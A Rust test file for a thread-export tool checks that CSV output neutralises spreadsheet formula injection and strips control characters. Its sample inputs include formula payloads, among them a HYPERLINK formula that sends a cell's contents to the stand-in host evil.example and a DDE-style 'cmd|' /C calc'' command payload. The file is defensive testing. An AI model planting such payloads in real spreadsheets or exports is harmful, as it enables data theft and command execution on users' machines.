//! CSV formula injection (issue 11, defect 7): a post, a handle or an id that begins with `=`,
//! `+`, `-`, `@`, tab or CR became a live formula when the CSV was opened in a spreadsheet, and
//! NUL and ESC from post text reached the file. Every CSV rethread writes (`export csv`'s three
//! files, `threads --format csv`, `themes --format csv`) now prefixes such a cell with `'`
//! (plain numbers like `-3` excepted) unless `--csv-raw`, and never writes a control character.

use crate::common::{ok, rethread, stderr};
use serde_json::json;
use std::path::Path;

/// Texts that a spreadsheet would run (or that start like one): each must come out with `'`.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+1+2 plus",
    "-1+2 minus",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    " =1+1 after a space",
    "\n=1+1 after a newline",
    "\u{FF1D}1+1 full-width",
];

/// Numbers stay numbers.
const NUMBERS: &[&str] = &["-3", "-3.5", "+1e5"];

/// A twarc2 page: a thread whose root id is itself a formula, replies whose texts and authors'
/// handles start with each dangerous character, numbers, control characters, a missing parent
/// whose id is a formula, and a semicolon that a `;`-separated spreadsheet would split on.
fn input(dir: &Path) -> String {
    let mut users = vec![];
    let mut tweets = vec![json!({
        "id": "=1+2", "text": "root", "author_id": "u0", "conversation_id": "=1+2",
        "created_at": "2024-01-01T00:00:00.000Z",
    })];
    users.push(json!({"id": "u0", "username": "=cmd", "name": "=cmd"}));
    let texts = FORMULAS.iter().chain(NUMBERS).copied().chain([
        "nul\u{0} esc\u{1b}[31m del\u{7f} nel\u{85} bell\u{7}",
        "hi;=1+1",
    ]);
    for (k, text) in texts.enumerate() {
        let (id, user) = (format!("{}", 10 + k), format!("u{}", k + 1));
        // The author's handle starts like the text; the numbers' authors are those numbers.
        let handle = if k == FORMULAS.len() + NUMBERS.len() {
            "ctl\u{0}\u{1b}name".to_string()
        } else if NUMBERS.contains(&text) {
            text.to_string()
        } else {
            format!("{}x{k}", text.chars().next().unwrap())
        };
        users.push(json!({"id": user, "username": handle, "name": handle}));
        tweets.push(json!({
            "id": id, "text": text, "author_id": user, "conversation_id": "=1+2",
            "created_at": format!("2024-01-01T00:{:02}:00.000Z", k + 1),
            "referenced_tweets": [{"type": "replied_to", "id": if k == 0 { "-2+5" } else { "=1+2" }}],
        }));
    }
    let page = json!({"data": tweets, "includes": {"users": users}});
    let path = dir.join("hostile.jsonl");
    std::fs::write(&path, format!("{page}\n")).unwrap();
    path.to_str().unwrap().to_string()
}

/// What a spreadsheet would treat as the start of a formula: the OWASP characters first, or
/// after leading white space, or their full-width forms.
fn dangerous(cell: &str) -> bool {
    let t = cell.trim_start();
    cell.starts_with(['\t', '\r'])
        || t.starts_with([
            '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
        ])
}

fn no_control_characters(name: &str, bytes: &[u8]) {
    let s = std::str::from_utf8(bytes).unwrap();
    for c in s.chars() {
        assert!(
            !c.is_control() || matches!(c, '\t' | '\n' | '\r'),
            "{name}: control character U+{:04X} in {s:?}",
            c as u32
        );
    }
}

fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The CSVs rethread writes for the hostile input: name and bytes.
fn outputs(dir: &Path, extra: &[&str]) -> Vec<(String, Vec<u8>)> {
    let input = input(dir);
    let out = dir.join("csv");
    let out = out.to_str().unwrap();
    let mut args = vec!["export", "csv", "--out", out, "--input", &input];
    args.extend(extra);
    ok(dir, &args);
    let mut files: Vec<(String, Vec<u8>)> = ["posts.csv", "edges.csv", "threads.csv"]
        .iter()
        .map(|f| {
            (
                f.to_string(),
                std::fs::read(dir.join("csv").join(f)).unwrap(),
            )
        })
        .collect();
    for cmd in ["threads", "themes"] {
        let mut args = vec![cmd, "--format", "csv", "--input", &input];
        args.extend(extra);
        let o = rethread(dir, &args);
        assert!(o.status.success(), "{cmd}: {}", stderr(&o));
        files.push((format!("{cmd} --format csv"), o.stdout));
    }
    files
}

fn all_cells(files: &[(String, Vec<u8>)]) -> Vec<String> {
    files.iter().flat_map(|(_, b)| cells(b)).flatten().collect()
}

#[test]
fn cells_that_a_spreadsheet_would_run_are_prefixed_and_numbers_stay() {
    let dir = tempfile::tempdir().unwrap();
    let files = outputs(dir.path(), &[]);
    for (name, bytes) in &files {
        no_control_characters(name, bytes);
        for cell in cells(bytes).concat() {
            assert!(
                NUMBERS.contains(&cell.as_str()) || !dangerous(&cell),
                "{name}: a spreadsheet would run {cell:?}"
            );
        }
    }
    let all = all_cells(&files);
    let has = |c: &str| all.iter().any(|x| x == c);
    for f in FORMULAS {
        assert!(has(&format!("'{f}")), "{f:?} is written with a ' before it");
    }
    for n in NUMBERS {
        assert!(has(n), "the number {n} stays as it is");
    }
    assert!(has("'=1+2"), "the root id (threads, posts, edges)");
    assert!(has("'-2+5"), "the missing parent's id");
    assert!(has("'=cmd"), "the root's author");
    assert!(
        has("twitter-=1+2"),
        "a thread id starting with a letter is safe"
    );
    assert!(
        has("nul\u{FFFD} esc\u{FFFD}[31m del\u{FFFD} nel\u{FFFD} bell\u{FFFD}"),
        "control characters become U+FFFD"
    );
    // `hi;=1+1` is quoted, so that a spreadsheet splitting on `;` keeps it one cell.
    let posts = String::from_utf8(files[0].1.clone()).unwrap();
    assert!(posts.contains("\"hi;=1+1\""), "{posts}");
    // The threads table of `export csv` and of `rethread threads` are the same bytes.
    assert_eq!(files[2].1, files[3].1);
}

#[test]
fn csv_raw_writes_cells_as_they_are_but_no_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let files = outputs(dir.path(), &["--csv-raw"]);
    for (name, bytes) in &files {
        no_control_characters(name, bytes);
    }
    let all = all_cells(&files);
    let has = |c: &str| all.iter().any(|x| x == c);
    for f in FORMULAS.iter().chain(NUMBERS) {
        assert!(has(f), "{f:?} is written as is with --csv-raw");
    }
    assert!(has("=1+2") && has("-2+5") && has("=cmd"));
    assert!(!all.iter().any(|c| c.starts_with('\'')), "no cell gets a '");
    assert!(has(
        "nul\u{FFFD} esc\u{FFFD}[31m del\u{FFFD} nel\u{FFFD} bell\u{FFFD}"
    ));
}
